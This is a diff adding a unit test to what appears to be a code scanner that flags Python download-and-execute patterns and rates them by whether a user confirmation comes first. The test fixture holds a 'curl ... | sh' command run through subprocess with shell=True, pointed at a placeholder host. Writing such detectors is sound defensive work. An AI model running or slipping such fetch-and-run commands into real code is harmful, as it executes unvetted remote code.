@@ -92,4 +92,37 @@ class ScannerTest {
         assertThat(cradles.get(1).confidence()).as("asking after running is no confirmation")
                 .isNotEqualTo(dev.chainhunt.model.Confidence.LOW);
     }
+
+    @Test
+    void aHelperThatOnlyConfirmingCallersCallRunsAfterTheQuestion() {
+        String code = """
+                import subprocess
+                CMD = "curl -sSf https://installer.example.invalid/init.sh | sh"
+                def _confirm():
+                    return input("Run it? [y/N] ") == "y"
+                def _run():
+                    return subprocess.call(CMD, shell=True)
+                def install():
+                    if _confirm():
+                        _run()
+                def reinstall():
+                    if _confirm():
+                        return _run()
+                def _other():
+                    return subprocess.call(CMD, shell=True)
+                def install_quietly():
+                    _other()
+                def install_again():
+                    if _confirm():
+                        _other()
+                """;
+        ScanResult r = scanner.scan(Target.of("setup_tool.py", code.getBytes(StandardCharsets.UTF_8)));
+        assertThat(r.findings().stream().filter(f -> f.ruleId().equals("py-process-download-cradle")))
+                .extracting(f -> f.location().line() + " " + f.confidence().id())
+                .as("a helper some caller runs without asking is not confirmed")
+                .containsExactly("6 low", "14 " + r.findings().stream().filter(f -> f.location().line() == 14)
+                        .findFirst().orElseThrow().confidence().id());
+        assertThat(r.findings()).filteredOn(f -> f.location().line() == 14)
+                .allMatch(f -> f.confidence() != dev.chainhunt.model.Confidence.LOW);
+    }
 }
